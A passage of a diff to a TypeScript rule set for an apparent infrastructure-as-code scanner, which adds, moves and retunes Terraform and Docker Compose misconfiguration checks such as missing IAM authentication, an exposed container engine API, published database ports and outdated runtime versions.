      ],
      "where": [
       {
+       "path": "master_auth[*].client_certificate_config[*].issue_client_certificate",
+       "is": true
+      }
+     ],
+     "message": "{name} hands out client certificates, which cannot be revoked.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_elasticache_replication_group"
+     ],
+     "where": [
+      {
+       "path": "transit_encryption_enabled",
+       "is": true
+      },
+      {
        "path": [
-        "role_based_access_control_enabled",
-        "role_based_access_control[*].enabled"
+        "auth_token",
+        "user_group_ids"
        ],
+       "absent": true
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_appsync_graphql_api"
+     ],
+     "where": [
+      {
+       "path": "authentication_type",
+       "is": "API_KEY"
+      }
+     ],
+     "message": "{name} asks for one shared key, not for who is there.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_neptune_cluster"
+     ],
+     "where": [
+      {
+       "path": "iam_database_authentication_enabled",
+       "default": false,
        "is": false
       }
      ],
-     "message": "{name} has no role-based access control: each user may do everything."
+     "message": "{name} asks for no identity of IAM; in its network everybody may query it.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_opensearch_domain",
+      "aws_elasticsearch_domain"
+     ],
+     "where": [
+      {
+       "path": "advanced_security_options[*].enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "message": "{name} has no fine-grained access control.",
+     "severity": "low"
     },
     {
      "format": "terraform",
@@ -27250,6 +27321,135 @@ export const ruleSet: RuleSet = {
       "set": "local_account_disabled",
       "to": "true"
      }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_storage_account"
+     ],
+     "where": [
+      {
+       "path": "shared_access_key_enabled",
+       "is": true
+      }
+     ],
+     "message": "{name} takes shared keys, which nobody can tie to a person.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_service_fabric_cluster"
+     ],
+     "where": [
+      {
+       "path": "azure_active_directory[*].tenant_id",
+       "absent": true
+      }
+     ],
+     "message": "{name} does not know the directory's users.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_mssql_server"
+     ],
+     "where": [
+      {
+       "path": "azuread_administrator[*]",
+       "absent": true
+      }
+     ],
+     "message": "{name} has no administrator from the directory, only one with a password.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_cosmosdb_account"
+     ],
+     "where": [
+      {
+       "path": "access_key_metadata_writes_enabled",
+       "default": true,
+       "is": true
+      }
+     ],
+     "message": "{name} lets a key change how the database is set up, not only what is in it.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_sql_database_instance"
+     ],
+     "where": [
+      {
+       "path": "database_version",
+       "matches": "POSTGRES|MYSQL"
+      },
+      {
+       "path": "settings[*].database_flags[*]",
+       "where": [
+        {
+         "path": "name",
+         "matches": "iam_authentication"
+        },
+        {
+         "path": "value",
+         "is": "off"
+        }
+       ]
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_db_instance",
+      "aws_rds_cluster"
+     ],
+     "where": [
+      {
+       "path": "iam_database_authentication_enabled",
+       "default": false,
+       "is": false
+      },
+      {
+       "not": {
+        "path": "engine",
+        "matches": "^(?:oracle|sqlserver|db2|custom)"
+       }
+      }
+     ],
+     "message": "{name} knows passwords only, not identities of IAM.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_app_service",
+      "azurerm_function_app",
+      "azurerm_linux_web_app",
+      "azurerm_windows_web_app",
+      "azurerm_linux_function_app",
+      "azurerm_windows_function_app"
+     ],
+     "where": [
+      {
+       "path": [
+        "auth_settings[*]",
+        "auth_settings_v2[*]"
+       ],
+       "absent": true
+      }
+     ],
+     "message": "{name} leaves sign-in to the program: App Service authentication is off.",
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -27288,21 +27488,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} takes shared keys beside identities of the directory.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_storage_account"
-     ],
-     "where": [
-      {
-       "path": "shared_access_key_enabled",
-       "is": true
-      }
-     ],
-     "message": "{name} takes shared keys, which nobody can tie to a person.",
-     "severity": "low"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -27316,90 +27503,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} takes shared keys, which nobody can tie to a person.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_service_fabric_cluster"
-     ],
-     "where": [
-      {
-       "path": "azure_active_directory[*].tenant_id",
-       "absent": true
-      }
-     ],
-     "message": "{name} does not know the directory's users.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_redis_cache"
-     ],
-     "where": [
-      {
-       "path": [
-        "redis_configuration[*].authentication_enabled",
-        "redis_configuration[*].enable_authentication"
-       ],
-       "is": false
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_mssql_server"
-     ],
-     "where": [
-      {
-       "path": "azuread_administrator[*]",
-       "absent": true
-      }
-     ],
-     "message": "{name} has no administrator from the directory, only one with a password.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "enable_legacy_abac",
-       "is": true
-      }
-     ],
-     "message": "{name} keeps the old attribute-based access control, which gives far more than roles do."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "master_auth[*].username",
-       "matches": "."
-      }
-     ],
-     "message": "{name} lets people sign in with one shared password."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "master_auth[*].client_certificate_config[*].issue_client_certificate",
-       "is": true
-      }
-     ],
-     "message": "{name} hands out client certificates, which cannot be revoked.",
-     "severity": "medium"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -27536,43 +27641,6 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "azure_policy_enabled",
-       "default": false,
-       "is": false
-      },
-      {
-       "not": {
-        "path": "addon_profile[*].azure_policy[*].enabled",
-        "is": true
-       }
-      }
-     ],
-     "message": "{name} leaves the Azure Policy add-on off."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_kubernetes_cluster"
-     ],
-     "where": [
-      {
-       "path": [
-        "automatic_upgrade_channel",
-        "automatic_channel_upgrade"
-       ],
-       "absent": true
-      }
-     ],
-     "message": "{name} does not take new versions by itself.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_kubernetes_cluster"
-     ],
-     "where": [
-      {
        "path": "addon_profile[*].kube_dashboard[*].enabled",
        "is": true
       }
@@ -27641,114 +27709,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "workload_identity_config[*]",
-       "absent": true
-      },
-      {
-       "not": {
-        "path": "enable_autopilot",
-        "is": true
-       }
-      }
-     ],
-     "message": "{name} lets its pods act as the machine: no workload identity."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "binary_authorization[*].evaluation_mode",
-       "default": "DISABLED",
-       "is": "DISABLED"
-      },
-      {
-       "not": {
-        "path": "enable_binary_authorization",
-        "is": true
-       }
-      }
-     ],
-     "message": "{name} runs images without a check of where they come from.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "release_channel[*]",
-       "absent": true
-      },
-      {
-       "not": {
-        "path": "enable_autopilot",
-        "is": true
-       }
-      }
-     ],
-     "message": "{name} is in no release channel: it gets new versions only by hand.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "ip_allocation_policy[*]",
-       "absent": true
-      },
-      {
-       "not": {
-        "path": "enable_autopilot",
-        "is": true
-       }
-      }
-     ],
-     "message": "{name} uses no alias addresses for its pods.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "resource_labels",
-       "absent": true
-      }
-     ],
-     "message": "{name} has no labels.",
-     "severity": "info",
-     "confidence": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "pod_security_policy_config[*].enabled",
-       "is": false
-      }
-     ],
-     "message": "{name} runs pods without a pod security policy."
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_container_cluster",
       "google_container_node_pool"
      ],
@@ -27773,6 +27733,73 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "google_container_cluster",
+      "google_container_node_pool"
+     ],
+     "where": [
+      {
+       "path": "node_config[*].metadata.disable-legacy-endpoints",
+       "is": false
+      }
+     ],
+     "message": "{name} answers on the old metadata addresses, which ask for no header.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kubernetes_cluster"
+     ],
+     "where": [
+      {
+       "path": "azure_policy_enabled",
+       "default": false,
+       "is": false
+      },
+      {
+       "not": {
+        "path": "addon_profile[*].azure_policy[*].enabled",
+        "is": true
+       }
+      }
+     ],
+     "message": "{name} leaves the Azure Policy add-on off."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "workload_identity_config[*]",
+       "absent": true
+      },
+      {
+       "not": {
+        "path": "enable_autopilot",
+        "is": true
+       }
+      }
+     ],
+     "message": "{name} lets its pods act as the machine: no workload identity."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "pod_security_policy_config[*].enabled",
+       "is": false
+      }
+     ],
+     "message": "{name} runs pods without a pod security policy."
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "google_container_node_pool"
      ],
      "where": [
@@ -27787,21 +27814,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} lets its pods read the metadata of the machine, with its credentials."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster",
-      "google_container_node_pool"
-     ],
-     "where": [
-      {
-       "path": "node_config[*].metadata.disable-legacy-endpoints",
-       "is": false
-      }
-     ],
-     "message": "{name} answers on the old metadata addresses, which ask for no header.",
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -27850,6 +27862,103 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_kubernetes_cluster"
+     ],
+     "where": [
+      {
+       "path": [
+        "automatic_upgrade_channel",
+        "automatic_channel_upgrade"
+       ],
+       "absent": true
+      }
+     ],
+     "message": "{name} does not take new versions by itself.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "binary_authorization[*].evaluation_mode",
+       "default": "DISABLED",
+       "is": "DISABLED"
+      },
+      {
+       "not": {
+        "path": "enable_binary_authorization",
+        "is": true
+       }
+      }
+     ],
+     "message": "{name} runs images without a check of where they come from.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "release_channel[*]",
+       "absent": true
+      },
+      {
+       "not": {
+        "path": "enable_autopilot",
+        "is": true
+       }
+      }
+     ],
+     "message": "{name} is in no release channel: it gets new versions only by hand.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "ip_allocation_policy[*]",
+       "absent": true
+      },
+      {
+       "not": {
+        "path": "enable_autopilot",
+        "is": true
+       }
+      }
+     ],
+     "message": "{name} uses no alias addresses for its pods.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "resource_labels",
+       "absent": true
+      }
+     ],
+     "message": "{name} has no labels.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "google_container_cluster",
       "google_container_node_pool"
      ],
@@ -27860,7 +27969,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} runs another system than the hardened one of Google.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -27875,7 +27985,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} gives its machines all scopes; only the roles of the account hold them back.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -28027,6 +28138,64 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "container-engine-api",
+   "title": "Container engine on the network",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    306,
+    319
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "network",
+    "CIS-Docker-2.7"
+   ],
+   "message": "`{name}` opens the engine's API on port 2375, without encryption or login.",
+   "why": "Whoever can reach the API starts a container with the host's disk in it, and so has the machine.",
+   "fix": "Use the socket, or port 2376 with certificates on both sides.",
+   "references": [
+    "https://docs.docker.com/engine/security/protect-access/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "port"
+     ],
+     "where": [
+      {
+       "path": "target",
+       "is": 2375
+      }
+     ]
+    },
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": [
+        "command[*]",
+        "command"
+       ],
+       "matches": "tcp://(?:0\\.0\\.0\\.0)?:2375"
+      }
+     ],
+     "at": "command"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "container-engine-socket",
    "title": "Container engine reachable",
    "category": "security",
@@ -28101,7 +28270,7 @@ export const ruleSet: RuleSet = {
    "title": "Content network with a loose setting",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     1188
    ],
@@ -28124,19 +28293,6 @@ export const ruleSet: RuleSet = {
     "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/DefaultRootObject.html"
    ],
    "match": [
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_cloudfront_distribution"
-     ],
-     "where": [
-      {
-       "path": "default_root_object",
-       "default": "",
-       "is": ""
-      }
-     ]
-    },
     {
      "format": "terraform",
      "resource": [
@@ -28168,6 +28324,19 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} reads a bucket without an access control: the bucket has to be public.",
      "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cloudfront_distribution"
+     ],
+     "where": [
+      {
+       "path": "default_root_object",
+       "default": "",
+       "is": ""
+      }
+     ]
     },
     {
      "format": "terraform",
@@ -29918,6 +30087,64 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "database-port-published",
+   "title": "Database open to the network",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    668,
+    1327
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "network",
+    "CIS-Docker-5.13",
+    "KICS-451d79dc"
+   ],
+   "message": "The port {value} of `{name}` is open on every address of the host.",
+   "why": "A published port without an address listens on all of them, and Docker opens the firewall for it. A database on the internet is found within the hour.",
+   "fix": "Leave `ports` out, services of one network reach each other; or bind to the host alone: `127.0.0.1:5432:5432`.",
+   "references": [
+    "https://docs.docker.com/engine/network/packet-filtering-firewalls/",
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "port"
+     ],
+     "where": [
+      {
+       "path": "^imageName",
+       "matches": "(?:^|/)(?:postgres(?:ql)?|postgis|timescaledb(?:-ha)?|mysql(?:-server)?|mariadb|percona|mongo(?:db)?|redis(?:-stack(?:-server)?)?|valkey|memcached|elasticsearch|opensearch|cassandra|couchdb|couchbase|neo4j|influxdb|clickhouse(?:-server)?|rabbitmq|etcd|consul|vault|mssql/server|server|oracle-xe|cockroach|minio|kafka|zookeeper|solr)$"
+      },
+      {
+       "path": "published",
+       "present": true
+      },
+      {
+       "path": "hostIp",
+       "default": "0.0.0.0",
+       "is": [
+        "0.0.0.0",
+        "[::]",
+        "::"
+       ]
+      }
+     ],
+     "at": "published"
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "default-namespace",
    "title": "Default namespace used",
    "category": "security",
@@ -30087,23 +30314,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_default_security_group"
-     ],
-     "where": [
-      {
-       "path": [
-        "ingress[*]",
-        "egress[*]"
-       ],
-       "present": true
-      }
-     ],
-     "message": "{name} has rules: what nobody put into a group ends up here and gets them.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_project"
      ],
      "where": [
@@ -30119,6 +30329,23 @@ export const ruleSet: RuleSet = {
       "set": "auto_create_network",
       "to": "false"
      }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_default_security_group"
+     ],
+     "where": [
+      {
+       "path": [
+        "ingress[*]",
+        "egress[*]"
+       ],
+       "present": true
+      }
+     ],
+     "message": "{name} has rules: what nobody put into a group ends up here and gets them.",
+     "severity": "low"
     },
     {
      "format": "terraform",
@@ -30179,7 +30406,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} reaches Google's own services over public addresses.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -30308,6 +30536,39 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_key_vault"
+     ],
+     "where": [
+      {
+       "path": "purge_protection_enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "message": "{name} can be purged: its keys, and all that they encrypt, are then gone for good.",
+     "severity": "medium",
+     "fix": {
+      "title": "Switch purge protection on",
+      "set": "purge_protection_enabled",
+      "to": "true"
+     }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_key_vault"
+     ],
+     "where": [
+      {
+       "path": "soft_delete_enabled",
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_db_instance",
       "aws_rds_cluster",
       "aws_docdb_cluster",
@@ -30333,45 +30594,6 @@ export const ruleSet: RuleSet = {
      "fix": {
       "title": "Set deletion_protection to true",
       "set": "deletion_protection",
-      "to": "true"
-     }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_dynamodb_table"
-     ],
-     "where": [
-      {
-       "path": "deletion_protection_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "info",
-     "fix": {
-      "title": "Set deletion_protection_enabled to true",
-      "set": "deletion_protection_enabled",
-      "to": "true"
-     }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lb",
-      "aws_alb"
-     ],
-     "where": [
-      {
-       "path": "enable_deletion_protection",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "info",
-     "fix": {
-      "title": "Set enable_deletion_protection to true",
-      "set": "enable_deletion_protection",
       "to": "true"
      }
     },
@@ -30413,68 +30635,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_cognito_user_pool"
-     ],
-     "where": [
-      {
-       "path": "deletion_protection",
-       "default": "INACTIVE",
-       "is": "INACTIVE"
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_s3_bucket",
-      "aws_ecr_repository"
-     ],
-     "where": [
-      {
-       "path": "force_destroy",
-       "is": true
-      }
-     ],
-     "message": "{name} is deleted together with all that lies in it.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_key_vault"
-     ],
-     "where": [
-      {
-       "path": "purge_protection_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} can be purged: its keys, and all that they encrypt, are then gone for good.",
-     "severity": "medium",
-     "fix": {
-      "title": "Switch purge protection on",
-      "set": "purge_protection_enabled",
-      "to": "true"
-     }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_key_vault"
-     ],
-     "where": [
-      {
-       "path": "soft_delete_enabled",
-       "is": false
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_sql_database_instance",
       "google_bigtable_instance",
       "google_container_cluster",
@@ -30495,6 +30655,91 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "google_bigquery_table",
+      "google_alloydb_cluster"
+     ],
+     "where": [
+      {
+       "path": "deletion_protection",
+       "is": false
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_dynamodb_table"
+     ],
+     "where": [
+      {
+       "path": "deletion_protection_enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "info",
+     "confidence": "low",
+     "fix": {
+      "title": "Set deletion_protection_enabled to true",
+      "set": "deletion_protection_enabled",
+      "to": "true"
+     }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lb",
+      "aws_alb"
+     ],
+     "where": [
+      {
+       "path": "enable_deletion_protection",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "info",
+     "confidence": "low",
+     "fix": {
+      "title": "Set enable_deletion_protection to true",
+      "set": "enable_deletion_protection",
+      "to": "true"
+     }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cognito_user_pool"
+     ],
+     "where": [
+      {
+       "path": "deletion_protection",
+       "default": "INACTIVE",
+       "is": "INACTIVE"
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_s3_bucket",
+      "aws_ecr_repository"
+     ],
+     "where": [
+      {
+       "path": "force_destroy",
+       "is": true
+      }
+     ],
+     "message": "{name} is deleted together with all that lies in it.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_db_instance",
       "aws_rds_cluster",
       "aws_docdb_cluster",
@@ -30508,7 +30753,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} is deleted without a last snapshot.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -30720,7 +30966,8 @@ export const ruleSet: RuleSet = {
        }
       }
      ],
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -30788,7 +31035,8 @@ export const ruleSet: RuleSet = {
         "pwsh"
        ]
       }
-     ]
+     ],
+     "at": "."
     },
     {
      "format": "actions",
@@ -30826,6 +31074,7 @@ export const ruleSet: RuleSet = {
        ]
       }
      ],
+     "at": ".",
      "unless": [
       {
        "path": "text",
@@ -31178,6 +31427,19 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_network_watcher_flow_log"
+     ],
+     "where": [
+      {
+       "path": "enabled",
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_vpc"
      ],
      "where": [
@@ -31218,19 +31480,6 @@ export const ruleSet: RuleSet = {
        }
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_network_watcher_flow_log"
-     ],
-     "where": [
-      {
-       "path": "enabled",
-       "is": false
-      }
-     ],
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -31285,7 +31534,7 @@ export const ruleSet: RuleSet = {
   },
   {
    "id": "function-runtime-outdated",
-   "title": "Runtime without security fixes",
+   "title": "Version without security fixes",
    "category": "security",
    "severity": "medium",
    "confidence": "high",
@@ -31308,7 +31557,7 @@ export const ruleSet: RuleSet = {
     "CKV_AZURE_83"
    ],
    "message": "{name} runs on {value}, which gets no more security fixes.",
-   "why": "A runtime past its end gets no fixes: a fault that is found tomorrow stays open, and the provider stops letting you change the function.",
+   "why": "A version past its end gets no fixes: a fault that is found tomorrow stays open, and the provider ends the service for it on a day of its own choosing.",
    "fix": "Move to a version that is still looked after.",
    "references": [
     "https://docs.aws.amazon.com/lambda/latest/dg/lambda-runtimes.html"
@@ -31373,6 +31622,153 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_linux_web_app",
+      "azurerm_linux_function_app"
+     ],
+     "where": [
+      {
+       "path": "site_config[*].application_stack[*].{~_version$}",
+       "matches": "^(?:2\\.7|3\\.[5678]|1[0246](?:-lts)?|7\\.[0-4]|5\\.[0-6])$"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_eks_cluster",
+      "aws_eks_node_group"
+     ],
+     "where": [
+      {
+       "path": "version",
+       "matches": "^1\\.(?:\\d|1\\d|2[0-9])(?:\\.|$)"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kubernetes_cluster"
+     ],
+     "where": [
+      {
+       "path": "kubernetes_version",
+       "matches": "^1\\.(?:\\d|1\\d|2[0-9])(?:\\.|$)"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": [
+        "min_master_version",
+        "node_version"
+       ],
+       "matches": "^1\\.(?:\\d|1\\d|2[0-9])(?:\\.|$)"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_db_instance",
+      "aws_rds_cluster"
+     ],
+     "where": [
+      {
+       "path": "engine",
+       "matches": "mysql|mariadb"
+      },
+      {
+       "path": "engine_version",
+       "matches": "^(?:5\\.|10\\.[0-5])"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_db_instance",
+      "aws_rds_cluster"
+     ],
+     "where": [
+      {
+       "path": "engine",
+       "matches": "postgres"
+      },
+      {
+       "path": "engine_version",
+       "matches": "^(?:9|10|11|12)(?:\\.|$)"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_elasticache_replication_group",
+      "aws_elasticache_cluster"
+     ],
+     "where": [
+      {
+       "path": "engine",
+       "default": "redis",
+       "is": "redis"
+      },
+      {
+       "path": "engine_version",
+       "matches": "^[2345]\\."
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_sql_database_instance"
+     ],
+     "where": [
+      {
+       "path": "database_version",
+       "matches": "^(?:MYSQL_5_[567]|POSTGRES_(?:9_6|10|11|12)|SQLSERVER_2017.*)$"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_postgresql_server",
+      "azurerm_mysql_server",
+      "azurerm_postgresql_flexible_server",
+      "azurerm_mysql_flexible_server"
+     ],
+     "where": [
+      {
+       "path": "version",
+       "matches": "^(?:9\\.\\d|10(?:\\.\\d)?|11|12|5\\.[67])"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_redis_cache"
+     ],
+     "where": [
+      {
+       "path": "redis_version",
+       "is": [
+        "4",
+        "4.0"
+       ]
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "azurerm_app_service"
      ],
      "where": [
@@ -31389,15 +31785,19 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_linux_web_app",
-      "azurerm_linux_function_app"
+      "aws_opensearch_domain",
+      "aws_elasticsearch_domain"
      ],
      "where": [
       {
-       "path": "site_config[*].application_stack[*].{~_version$}",
-       "matches": "^(?:2\\.7|3\\.[5678]|1[0246](?:-lts)?|7\\.[0-4]|5\\.[0-6])$"
+       "path": [
+        "engine_version",
+        "elasticsearch_version"
+       ],
+       "matches": "^(?:Elasticsearch_)?(?:[1-6]\\.|7\\.[0-8]$)"
       }
-     ]
+     ],
+     "severity": "low"
     }
    ],
    "languages": [
@@ -31571,6 +31971,47 @@ export const ruleSet: RuleSet = {
       {
        "path": "hostAliases[*]",
        "present": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "host-device",
+   "title": "Device of the host handed in",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "medium",
+   "cwe": [
+    250
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "isolation",
+    "CIS-Docker-5.18"
+   ],
+   "message": "`{name}` gets the device `{value}` of the host.",
+   "why": "Through a disk or the memory's device a process reads and writes everything, whatever the filesystem says.",
+   "fix": "Take the device out, or choose a narrow one, and read-only (`:r`).",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "each": "devices[*]",
+     "where": [
+      {
+       "matches": "^/dev/(?:sd[a-z]|nvme|xvd|vd[a-z]|hd[a-z]|mem|kmem|port|disk|mapper|loop|dm-|root)|^/dev/?(?::|$)"
       }
      ]
     }
@@ -31897,6 +32338,19 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_role_definition"
+     ],
+     "where": [
